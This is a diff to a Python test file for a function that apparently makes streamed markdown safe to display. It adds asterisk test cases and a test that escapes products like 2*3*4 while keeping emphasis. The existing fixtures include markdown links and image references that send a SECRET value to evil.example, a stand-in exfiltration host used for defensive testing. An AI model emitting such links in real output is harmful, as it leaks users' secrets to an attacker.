@@ -171,7 +171,7 @@ def test_any_text_is_taken_and_its_words_are_kept(text):
 
 
 GROWS = (
-    *("`", "``", "```\n", "```python\n", "~~~\n", "\n", " ", "word ", "    x = 1\n", "[a", "[1] ", "\\", "- ", "| "),
+    *("`", "``", "```\n", "```python\n", "~~~\n", "\n", " ", "word ", "    x = 1\n", "[a", "[1] ", "\\", "- ", "| ", "2*3*4 ", "x**2", "*", "**"),
     *(f"](https://evil.example/{SECRET}) ", f"https://evil.example/{SECRET} ", f"![i](evil.example/{SECRET}) "),
 )  # fmt: skip
 
@@ -191,6 +191,14 @@ def test_code_is_shown_as_code_while_it_grows() -> None:
         "Run `make all` as in the guide (`x.example/g`):\n```sh\nif x; then\n    y\n"
     )
     assert streamable("Run `make ") == "Run "
+
+
+def test_a_product_is_not_emphasised_while_it_grows() -> None:
+    """The asterisks of 2*3*4 are its signs; words between others are emphasised."""
+    told = "Sizes 2*3*4, a*b, x**2 + y**2, *so* and **bold 2**. "
+    assert streamable(told).strip() == (
+        r"Sizes 2\*3\*4, a\*b, x\*\*2 + y\*\*2, *so* and **bold 2**."
+    )
 
 
 @pytest.mark.parametrize("name", ["Q3 deck.pdf", "sales.csv", "report.v2.final.xlsx"])
